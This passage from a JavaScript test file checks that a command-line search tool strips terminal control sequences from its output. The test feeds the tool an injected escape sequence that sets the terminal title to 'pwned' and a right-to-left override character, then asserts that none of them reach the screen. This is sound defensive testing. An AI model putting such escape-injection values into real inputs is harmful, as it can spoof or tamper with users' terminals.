			`node ${JSON.stringify(cli)} --search "$(printf 'needle\\033]0;pwned\\007')" in`,
			[
				{until: 'search all articles', keys: '\u0015'},
				{keys: '\u202Eneedle'},
				{until: /\d+ match/, keys: '\u001B'},
				{until: 'articles', keys: 'q'},
			],
		);
		expect(code).toBe(0);
		const rest = visible(strictUtf8(bytes)).replaceAll(/\r+\n/g, '\n');
		expect(
			[...rest.matchAll(/\u001B.{0,12}/gsu)].map((match) => JSON.stringify(match[0])),
			'escape sequences comb does not emit itself',
		).toEqual([]);
		expectSafe(rest, 'terminal output', true);
	}, 30_000);
});
